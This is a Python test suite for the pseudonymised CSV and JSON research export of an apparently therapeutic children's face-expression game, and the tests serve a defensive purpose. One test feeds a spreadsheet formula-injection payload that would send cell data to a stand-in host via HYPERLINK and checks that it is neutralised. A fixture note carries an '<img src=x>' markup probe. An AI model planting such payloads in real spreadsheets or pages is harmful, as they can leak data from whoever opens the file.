"""Research export: one row per trial, documented columns, pseudonymous, notes scrubbed."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import stat
from pathlib import Path

import pytest

from game.expressions import QualityFlag
from game.motion.metrics import MotionMetrics
from game.play.trial_record import TrialRecord
from game.records.store import ProgressStore, memory_store
from game.reports.export import (
    export_columns,
    export_rows,
    rows_to_csv,
    scrub_name,
)
from game.reports.export_file import write_export
from tests.conftest import REPO_ROOT
from tests.records.factories import make_trial

DICTIONARY = REPO_ROOT / "docs" / "data-dictionary.md"


def documented_columns() -> list[str]:
    """The column names in the `## Columns` table of docs/data-dictionary.md, in order."""
    text = DICTIONARY.read_text(encoding="utf-8")
    section = text.split("## Columns", 1)[1].split("\n## ", 1)[0]
    return re.findall(r"^\| `([a-z0-9_]+)` \|", section, flags=re.MULTILINE)


def test_data_dictionary_documents_exactly_the_exported_columns_in_order() -> None:
    documented = documented_columns()
    exported = list(export_columns())
    missing = [c for c in exported if c not in documented]
    extra = [c for c in documented if c not in exported]
    assert not missing, f"document these columns in {DICTIONARY.name}: {missing}"
    assert not extra, f"{DICTIONARY.name} documents columns that are not exported: {extra}"
    assert documented == exported, "same order as the export"


def test_columns_follow_the_trial_record_fields() -> None:
    columns = export_columns()
    for item in dataclasses.fields(TrialRecord):
        if item.name == "quality":
            assert all(f"quality_{flag.value}" in columns for flag in QualityFlag)
        elif item.name == "motion":
            assert all(f"motion_{m.name}" in columns for m in dataclasses.fields(MotionMetrics))
        else:
            assert item.name in columns
    assert "display_name" not in columns and len(columns) == len(set(columns))


def test_one_row_per_trial_with_the_child_by_id_only(
    filled_store: tuple[ProgressStore, str], tmp_path: Path
) -> None:
    store, profile_id = filled_store
    out = tmp_path / "trials.csv"
    count = write_export(store, out, fmt="csv", profile_ids=[profile_id])
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert count == len(rows) == len(store.trials_for(profile_id)) == 60
    assert list(rows[0]) == list(export_columns())
    assert {row["profile_id"] for row in rows} == {profile_id}
    text = out.read_text(encoding="utf-8")
    assert "script" not in text.lower() and "alert" not in text
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    tired = [row for row in rows if row["therapist_note"]]
    assert [row["therapist_note"] for row in tired] == [f"{profile_id} was tired <img src=x>"]
    first = rows[0]
    assert first["success"] in ("true", "false")
    assert first["quality_head_turned"] == "0.1"  # from make_trial's quality for index 0
    assert first["session_ended_at"] and first["level_set_id"] == "first-faces"


def test_export_of_every_child_and_json_format(
    filled_store: tuple[ProgressStore, str], tmp_path: Path
) -> None:
    store, _profile_id = filled_store
    out = tmp_path / "trials.json"
    count = write_export(store, out, fmt="json")
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["format"] == "facequest-trials" and document["format_version"] == 1
    assert document["columns"] == list(export_columns())
    assert count == len(document["rows"]) == 60 + 8
    assert len({row["profile_id"] for row in document["rows"]}) == 2
    assert "Ben" not in out.read_text(encoding="utf-8")
    row = document["rows"][0]
    assert isinstance(row["success"], bool) and isinstance(row["hints_given"], list)
    assert set(row) == set(export_columns())


def test_csv_cells_for_lists_none_and_booleans() -> None:
    store = memory_store()
    child = store.create_profile("Ava")
    session = store.start_session(child.profile_id, level_set_id="s")
    store.add_trial(session.session_id, make_trial(0, success=False, prompt_level=3))
    rows = export_rows(store)
    text = rows_to_csv(rows)
    record = next(csv.DictReader(text.splitlines()))
    assert record["latency_ms"] == ""  # never crossed
    assert record["hints_given"] == "smile_wider"
    assert record["success"] == "false" and record["override"] == ""
    assert record["birth_year"] == "" and record["session_ended_at"] == ""


def test_without_notes_leaves_note_columns_empty(filled_store: tuple[ProgressStore, str]) -> None:
    store, profile_id = filled_store
    rows = export_rows(store, [profile_id], include_notes=False)
    assert all(row["therapist_note"] == "" and row["override_note"] == "" for row in rows)
    with_notes = export_rows(store, [profile_id])
    assert any(row["override_note"] for row in with_notes)


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        (
            "Mia smiled; mia laughed. Miami trip.",
            "Mia Rossi",
            "[child] smiled; [child] laughed. Miami trip.",
        ),
        ("Rossi family came", "Mia Rossi", "[child] family came"),
        ("小明今天很开心", "小明", "[child]今天很开心"),
        ("nothing here", "Ava", "nothing here"),
        (  # a fresh tester's case: a part of a hyphenated name stayed
            "Anne was calm; Anne-Marie laughed with Marie. O'Neil came.",
            "Anne-Marie O'Neil",
            "[child] was calm; [child] laughed with [child]. [child] came.",
        ),
    ],
)
def test_scrub_name(text: str, name: str, expected: str) -> None:
    assert scrub_name(text, name) == expected


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_export(memory_store(), tmp_path / "x.xlsx", fmt="xlsx")


def test_csv_starts_with_a_byte_order_mark_and_json_does_not(tmp_path: Path) -> None:
    """Excel reads a CSV without a BOM in the legacy code page: Chinese notes would break."""
    store = memory_store()
    child = store.create_profile("小明")
    session = store.start_session(child.profile_id, level_set_id="first-faces")
    store.add_trial(session.session_id, make_trial(0), therapist_note="小明今天很开心，笑了三次")
    csv_out, json_out = tmp_path / "trials.csv", tmp_path / "trials.json"
    write_export(store, csv_out, fmt="csv")
    write_export(store, json_out, fmt="json")

    raw = csv_out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    with open(csv_out, encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
    assert tuple(reader.fieldnames or ()) == export_columns()  # no BOM glued to the header
    assert rows[0]["therapist_note"] == f"{child.profile_id}今天很开心，笑了三次"
    assert "今天很开心".encode() in raw  # UTF-8 after the mark

    raw_json = json_out.read_bytes()
    assert raw_json.startswith(b"{")
    assert json.loads(raw_json.decode("utf-8"))["rows"][0]["therapist_note"].endswith("笑了三次")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_cells_a_spreadsheet_would_run_are_prefixed_to_stay_text(
    start: str, tmp_path: Path
) -> None:
    store = memory_store()
    child = store.create_profile("Ava")
    session = store.start_session(child.profile_id, level_set_id="first-faces")
    formula = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"see\")"
    store.add_trial(session.session_id, make_trial(0, override_note=formula),
                    therapist_note=formula)
    out = tmp_path / "trials.csv"
    write_export(store, out, fmt="csv")
    with open(out, encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["therapist_note"] == "'" + formula
    assert row["override_note"] == "'" + formula
    assert row["peak_score"] == "0.8" and not row["started_ms"].startswith("'")


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    from game.reports.export import _csv_cell

    assert _csv_cell(-3) == "-3" and _csv_cell(-0.5) == "-0.5"
    assert _csv_cell("smiled a lot") == "smiled a lot"
    assert _csv_cell("-1 point") == "'-1 point"


def test_a_trial_whose_session_record_is_gone_is_still_exported(tmp_path: Path) -> None:
    """A fresh tester restored progress.json from a backup older than the last session (as
    the corrupt-file message suggests): export then crashed on the trial of that session."""
    import shutil

    from game.records.store import RECORDS_FILE, open_store

    data_dir = tmp_path / "data"
    with open_store(data_dir) as store:
        child = store.create_profile("Ava")
    old_records = tmp_path / "before-session.json"
    shutil.copy(data_dir / RECORDS_FILE, old_records)
    with open_store(data_dir) as store:
        session = store.start_session(child.profile_id, level_set_id="s")
        store.add_trial(session.session_id, make_trial(0))
    shutil.copy(old_records, data_dir / RECORDS_FILE)  # the restored, older records file
    with open_store(data_dir, read_only=True) as store:
        (row,) = export_rows(store)
    assert row["session_id"] == session.session_id and row["trial_index"] == 0
    assert row["session_started_at"] is None and row["profile_id"] == child.profile_id


def test_trial_number_counts_from_one_next_to_the_zero_based_index(
    filled_store: tuple[ProgressStore, str],
) -> None:
    store, profile_id = filled_store
    rows = export_rows(store, [profile_id])
    columns = list(export_columns())
    assert columns.index("trial_number") == columns.index("trial_index") + 1
    assert all(row["trial_number"] == row["trial_index"] + 1 for row in rows)
    assert {row["trial_number"] for row in rows} == set(range(1, 13))


def test_every_decimal_is_rounded_to_three_places_in_csv_and_json(tmp_path: Path) -> None:
    store = memory_store()
    child = store.create_profile("Ava")
    session = store.start_session(child.profile_id, level_set_id="first-faces")
    store.add_trial(session.session_id, make_trial(0, peak_score=0.71234567890123456))
    store.add_trial(session.session_id, make_trial(1, peak_score=1 / 3))
    csv_out, json_out = tmp_path / "t.csv", tmp_path / "t.json"
    write_export(store, csv_out, fmt="csv")
    write_export(store, json_out, fmt="json")
    with open(csv_out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["peak_score"] for r in rows] == ["0.712", "0.333"]
    assert [r["mean_score"] for r in rows] == ["0.499", "0.233"]
    decimals = re.compile(r"^-?\d+(\.\d{1,3})?$")
    for row in rows:
        for column in ("threshold", "peak_score", "mean_score", "quality_head_turned"):
            assert decimals.match(row[column]), (column, row[column])
    document = json.loads(json_out.read_text(encoding="utf-8"))
    assert [r["peak_score"] for r in document["rows"]] == [0.712, 0.333]


def test_the_session_utc_offset_is_exported_in_minutes(
    filled_store: tuple[ProgressStore, str],
) -> None:
    store, profile_id = filled_store
    rows = export_rows(store, [profile_id])
    assert {row["session_utc_offset_min"] for row in rows} == {60}  # StepClock's +01:00
    assert all(row["session_started_at"].endswith("+01:00") for row in rows)
